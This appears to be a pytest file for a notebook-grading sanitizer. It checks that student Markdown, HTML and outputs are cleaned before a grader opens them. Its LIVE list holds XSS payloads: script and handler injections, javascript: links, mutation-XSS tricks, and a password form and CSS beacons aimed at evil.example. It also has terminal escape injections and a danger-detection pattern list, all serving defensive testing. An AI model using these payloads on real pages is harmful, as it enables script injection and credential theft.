"""What a submission shows is harmless to whoever opens the graded notebook, and honest work stays.

The oracle is a browser's own parser (html5lib, as bleach ships it): of what nbconvert makes of the
cleaned source, it must see no script, no handler, no other fetch than a picture's.
"""

import base64
import re

import pandas as pd
import pytest
from bleach._vendor import html5lib  # type: ignore[import-untyped]
from nbconvert.filters.markdown import markdown2html

from nbjudge.harmless import html, markdown, outputs, text

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n and so on").decode()
LIVE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<b\nonclick="alert(1)">y</b>',
    '<b onclick="alert(1)">y</b>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#x0A;script:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>.score { display: none } body { background: url(//evil.example/) }</style>",
    "<style>.dataframe, .score { display: none }</style>",
    '<div style="position: fixed; inset: 0; background: white">all right</div>',
    '<div class="modal-backdrop navbar-fixed-top" id="comment">x</div>',
    '<p style="background-image: url(//evil.example/)">x</p>',
    '<math><mtext></p><style><a title="</style><img src onerror=alert(1)>">',
    "`` ` <script>alert(1)</script>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>x</details>",
)
HONEST = (
    "plain words, a < b > c & d",
    "**bold** and `<script>` in code",
    "```python\nif a < b: print('<b>')\n```",
    "$a<b$ and $$\\frac{a}{b} < c$$",
    "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "# A heading\n\n> a quotation\n\n1. one\n2. two",
    '<b>bold</b> x<sub>2</sub> <font color="red">red</font>',
    '<div align="center">in the middle</div>',
    '<a href="https://example.org/?a=1&amp;b=2">a page</a>, [another](https://example.org)',
    "<https://example.org/>",
    "<details><summary>more</summary>text</details>",
    "![a picture](attachment:a.png)",
)
ATTACHED = {"a.png": {"image/png": PNG}}
ACTIVE = set("script svg math iframe form input object embed meta base link".split())
FETCHING = {"action", "background", "cite", "data", "formaction", "poster", "srcdoc", "srcset"}


def dangers(page: str) -> list[str]:
    """What a browser would run, fetch, submit or lay over the page."""
    found = []
    for element in html5lib.parseFragment(page, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]  # of SVG and MathML, it stands behind a namespace
        if tag in ACTIVE:
            found.append(tag)
        if tag == "style" and re.search("url|display|position", element.text or ""):
            found.append(f"style {element.text}")
        for name, value in element.attrib.items():
            name, value = str(name), "".join(value.split()).lower()
            if name.startswith("on") or name in FETCHING or "javascript:" in value:
                found.append(f"{name}={value}")
            if name in ("class", "id") and re.search("modal|navbar|comment", value):
                found.append(f"{name}={value}")
            if name == "style" and re.search("url|position", value):
                found.append(f"style={value}")
            if name == "src" and not value.startswith(("data:image/", "attachment:")):
                found.append(f"src={value}")
    return found


def cells_of(page: str) -> list[str]:
    tree = html5lib.parseFragment(page, namespaceHTMLElements=False)
    return [one.text or "" for one in tree.iter() if one.tag in ("td", "th")]


@pytest.mark.parametrize("source", LIVE)
def test_nothing_in_markdown_runs(source: str) -> None:
    assert dangers(str(markdown2html(markdown.cleaned(source)))) == []


@pytest.mark.parametrize("source", LIVE)
def test_nothing_in_html_runs(source: str) -> None:
    assert dangers(html.cleaned(source)) == []


def test_the_oracle_sees_what_is_live() -> None:
    assert all(dangers(str(markdown2html(source))) for source in LIVE)


@pytest.mark.parametrize("source", HONEST)
def test_honest_markdown_stays_as_it_was_written(source: str) -> None:
    assert markdown.cleaned(source, ATTACHED) == source


def test_what_may_not_stay_is_shown_as_it_was_written() -> None:
    page = str(markdown2html(markdown.cleaned("my answer <script>alert(1)</script>")))
    assert "my answer &lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "[x](javascript:alert(1))" in markdown.cleaned("[x](javascript:alert(1))")


def test_an_attachment_is_a_picture_or_nothing() -> None:
    hostile = {"a.png": {"image/png": '"><script>alert(1)</script>'}}
    source = markdown.cleaned("![a](attachment:a.png)", hostile)
    assert dangers(str(markdown2html(source))) == []


def test_a_table_of_pandas_keeps_its_alignment() -> None:
    table = pd.DataFrame({"a": [1, 2], "b": ["x", "<b>"]})._repr_html_()
    cleaned = html.cleaned(table)
    assert cells_of(cleaned) == cells_of(table) == ["", "a", "b", "0", "1", "x", "1", "2", "<b>"]
    assert ".dataframe thead th { text-align: right }" in cleaned
    assert 'class="dataframe"' in cleaned


def test_a_styled_table_keeps_its_colours() -> None:
    shown = pd.DataFrame({"a": [1, 2]}).style.highlight_max(color="yellow")._repr_html_()
    cleaned = html.cleaned(shown)
    (cell,) = re.findall(r"#(T_\w+_row1_col0) { background-color: yellow }", cleaned)
    assert f'id="{cell}"' in cleaned
    assert dangers(cleaned) == []


def test_a_kind_that_runs_or_is_unknown_is_left_out_and_named() -> None:
    live = {"application/javascript": "alert(1)", "text/plain": "<Javascript>"}
    assert outputs.cleaned(live) == {"text/plain": "<Javascript>"}
    for kind in ("application/javascript", "application/vnd.plotly.v1+json", "text/x-new"):
        assert outputs.cleaned({kind: "x"}) == {"text/plain": f"(left out by nbjudge: {kind})"}


def test_pictures_stay_and_a_drawing_becomes_one() -> None:
    assert outputs.cleaned({"image/png": PNG}) == {"image/png": PNG}
    assert "image/png" not in outputs.cleaned({"image/png": '"><script>alert(1)</script>'})
    drawn = outputs.cleaned({"image/svg+xml": "<svg onload='alert(1)'/>"})["text/html"]
    assert drawn.startswith('<img src="data:image/svg+xml;base64,')
    assert dangers(drawn) == []
    assert html.cleaned(drawn) == drawn


def test_metadata_of_an_output_is_the_size_of_a_picture() -> None:
    said = {
        "image/png": {"width": 640, "height": "1 onload=alert(1)"},
        "text/html": {"isolated": 1},
    }
    assert outputs.cleaned_metadata(said) == {"image/png": {"width": 640}}


def test_cleaning_twice_changes_nothing() -> None:
    for source in LIVE + HONEST:
        once = markdown.cleaned(source, ATTACHED)
        assert markdown.cleaned(once, ATTACHED) == once
        assert html.cleaned(html.cleaned(source)) == html.cleaned(source)


def test_a_name_says_nothing_to_the_terminal() -> None:
    assert text.visible("a\x1b]0;owned\x07b\x9b2J") == r"a\x1b]0;owned\x07b\x9b2J"
    assert text.on_one_line("ann\nbob: graded") == r"ann\nbob: graded"
    assert text.visible("Zoë, 李, tab\tand line\n") == "Zoë, 李, tab\tand line\n"
